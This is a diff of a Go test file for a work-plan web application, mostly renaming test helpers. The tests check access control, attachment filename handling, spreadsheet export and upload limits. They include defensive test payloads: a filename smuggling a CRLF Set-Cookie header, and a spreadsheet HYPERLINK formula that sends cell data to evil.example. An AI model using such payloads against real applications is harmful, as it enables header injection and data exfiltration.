@@ -1,4 +1,4 @@
-package plan
+package plan_test
 
 import (
 	"bytes"
@@ -24,7 +24,7 @@ func TestPlanWebhookURLStaysWithSettingsEditors(t *testing.T) {
 	const secret = "https://qyapi.example.com/cgi-bin/webhook/send?key=SECRET-ROBOT-KEY"
 	st := plan.DefaultSettings
 	st.WebhookURL = secret
-	if r := h.as("supervisor").do("PUT", "/api/v1/plan/settings", st); r.Code != 200 {
+	if r := h.As("supervisor").Do("PUT", "/api/v1/plan/settings", st); r.Code != 200 {
 		t.Fatalf("save settings: %d %s", r.Code, r.Body)
 	}
 	jfj := f.a.Lead.ID
@@ -37,7 +37,7 @@ func TestPlanWebhookURLStaysWithSettingsEditors(t *testing.T) {
 		{"leader", "/plan/ranking?year=2023&month=6"},
 		{"unit", "/plan/bulletin?year=2023&month=6"},
 	} {
-		r := h.as(tc.user).get(tc.path)
+		r := h.As(tc.user).Get(tc.path)
 		if r.Code != 200 {
 			t.Errorf("%s GET %s = %d", tc.user, tc.path, r.Code)
 		}
@@ -54,28 +54,28 @@ func TestPlanWebhookURLStaysWithSettingsEditors(t *testing.T) {
 func TestPlanUnitTreeHidesOtherUnitsTasks(t *testing.T) {
 	f := newPlanFixture(t)
 	h := f.h
-	unit2, sup := h.as("unit2"), h.as("supervisor")
-	r := unit2.do("POST", "/api/v1/plan/reports", map[string]any{"task_id": f.b.ID, "period": "2023-05", "pct": 80, "done": "推进", "submit": true})
+	unit2, sup := h.As("unit2"), h.As("supervisor")
+	r := unit2.Do("POST", "/api/v1/plan/reports", map[string]any{"task_id": f.b.ID, "period": "2023-05", "pct": 80, "done": "推进", "submit": true})
 	var rep plan.Report
 	r.JSON(t, &rep)
-	if r := sup.do("POST", fmt.Sprintf("/api/v1/plan/reports/%d/accept", rep.ID), map[string]any{"version": rep.Version}); r.Code != 200 {
+	if r := sup.Do("POST", fmt.Sprintf("/api/v1/plan/reports/%d/accept", rep.ID), map[string]any{"version": rep.Version}); r.Code != 200 {
 		t.Fatalf("accept: %d %s", r.Code, r.Body)
 	}
 	// B is overdue-flagged for the leader view: make it red by moving its deadline back.
 	var b plan.Node
-	sup.get("/api/v1/plan/nodes/"+id(f.b)).JSON(t, &b)
-	if r := sup.do("PATCH", "/api/v1/plan/nodes/"+id(f.b), map[string]any{"title": b.Title, "lead_unit": "kcj", "start_on": "2023-01-01",
+	sup.Get("/api/v1/plan/nodes/"+id(f.b)).JSON(t, &b)
+	if r := sup.Do("PATCH", "/api/v1/plan/nodes/"+id(f.b), map[string]any{"title": b.Title, "lead_unit": "kcj", "start_on": "2023-01-01",
 		"due_on": "2023-05-31", "deliverable": b.Deliverable, "version": b.Version}); r.Code != 200 {
 		t.Fatalf("edit B: %d %s", r.Code, r.Body)
 	}
 	var all, mine struct {
 		Roots []*plan.Node `json:"roots"`
 	}
-	h.as("leader").get("/api/v1/plan?year=2023").JSON(t, &all)
+	h.As("leader").Get("/api/v1/plan?year=2023").JSON(t, &all)
 	if got := all.Roots[0].Children[0].Children[0]; got.ProgressPct != "40.0%" || got.Flag != plan.Red {
 		t.Fatalf("leader's action: %s %s", got.ProgressPct, got.Flag)
 	}
-	body := h.as("unit").get("/api/v1/plan?year=2023")
+	body := h.As("unit").Get("/api/v1/plan?year=2023")
 	body.JSON(t, &mine)
 	action := mine.Roots[0].Children[0].Children[0]
 	if len(action.Children) != 1 || action.Children[0].ID != f.a.ID {
@@ -89,7 +89,7 @@ func TestPlanUnitTreeHidesOtherUnitsTasks(t *testing.T) {
 	if strings.Contains(string(body.Body), "任务B") {
 		t.Error("unit's tree names task B")
 	}
-	page := h.as("unit").get("/plan?year=2023")
+	page := h.As("unit").Get("/plan?year=2023")
 	if strings.Contains(string(page.Body), "40.0%") || strings.Contains(string(page.Body), `<span class="tag red" title=`) {
 		t.Error("unit's plan page shows the whole-plan figure or flag of the action")
 	}
@@ -101,7 +101,7 @@ func TestPlanUnitTreeHidesOtherUnitsTasks(t *testing.T) {
 func TestPlanAttachmentFilenameHeader(t *testing.T) {
 	f := newPlanFixture(t)
 	h := f.h
-	unit, sup := h.as("unit"), h.as("supervisor")
+	unit, sup := h.As("unit"), h.As("supervisor")
 	pdf := []byte("%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n")
 	for i, name := range []string{"报告@2023=终稿.pdf", "a;b,c d.pdf", "x\r\nSet-Cookie: a=b.pdf", `q"uote'.pdf`, "plain.pdf"} {
 		r := postMultipart(unit, "/plan/tasks/"+id(f.a)+"/reports", map[string]string{"period": fmt.Sprintf("2023-0%d", i+1), "pct": "10",
@@ -115,7 +115,7 @@ func TestPlanAttachmentFilenameHeader(t *testing.T) {
 		if err != nil || len(rep.Attachments) != 1 {
 			t.Fatalf("report: %v", err)
 		}
-		dl := sup.get(fmt.Sprintf("/plan/attachments/%d", rep.Attachments[0].ID))
+		dl := sup.Get(fmt.Sprintf("/plan/attachments/%d", rep.Attachments[0].ID))
 		cd := dl.Header.Get("Content-Disposition")
 		disp, params, err := mime.ParseMediaType(cd)
 		if err != nil || disp != "attachment" || params["filename"] != rep.Attachments[0].Filename {
@@ -133,15 +133,15 @@ func TestPlanAttachmentFilenameHeader(t *testing.T) {
 func TestPlanBulletinXLSXNeutralisesFormulas(t *testing.T) {
 	f := newPlanFixture(t)
 	h := f.h
-	sup := h.as("supervisor")
+	sup := h.As("supervisor")
 	evil := `=HYPERLINK("http://evil.example/?"&A1,"点击")`
 	var a plan.Node
-	sup.get("/api/v1/plan/nodes/"+id(f.a)).JSON(t, &a)
-	if r := sup.do("PATCH", "/api/v1/plan/nodes/"+id(f.a), map[string]any{"title": evil, "lead_unit": "jfj", "co_units": []string{"kcj"},
+	sup.Get("/api/v1/plan/nodes/"+id(f.a)).JSON(t, &a)
+	if r := sup.Do("PATCH", "/api/v1/plan/nodes/"+id(f.a), map[string]any{"title": evil, "lead_unit": "jfj", "co_units": []string{"kcj"},
 		"start_on": "2023-01-01", "due_on": "2023-12-31", "deliverable": a.Deliverable, "version": a.Version}); r.Code != 200 {
 		t.Fatalf("edit: %d %s", r.Code, r.Body)
 	}
-	x := sup.get("/api/v1/plan/bulletin.xlsx?year=2023&month=6")
+	x := sup.Get("/api/v1/plan/bulletin.xlsx?year=2023&month=6")
 	wb, err := excelize.OpenReader(bytes.NewReader(x.Body))
 	if err != nil {
 		t.Fatal(err)
@@ -187,7 +187,7 @@ func (c *countingReader) Read(p []byte) (int, error) {
 func TestPlanHugeUploadIsCutShort(t *testing.T) {
 	f := newPlanFixture(t)
 	h := f.h
-	unit := h.as("unit")
+	unit := h.As("unit")
 	const boundary = "xxBOUNDARYxx"
 	head := "--" + boundary + "\r\nContent-Disposition: form-data; name=\"period\"\r\n\r\n2023-05\r\n" +
 		"--" + boundary + "\r\nContent-Disposition: form-data; name=\"pct\"\r\n\r\n10\r\n" +
@@ -197,7 +197,7 @@ func TestPlanHugeUploadIsCutShort(t *testing.T) {
 		req := httptest.NewRequest("POST", path, body)
 		req.Header.Set("Content-Type", "multipart/form-data; boundary="+boundary)
 		req.Header.Set("Sec-Fetch-Site", "same-origin")
-		r := unit.send(req)
+		r := unit.Send(req)
 		if r.Code != http.StatusRequestEntityTooLarge {
 			t.Errorf("POST %s with 1 GiB: %d", path, r.Code)
 		}
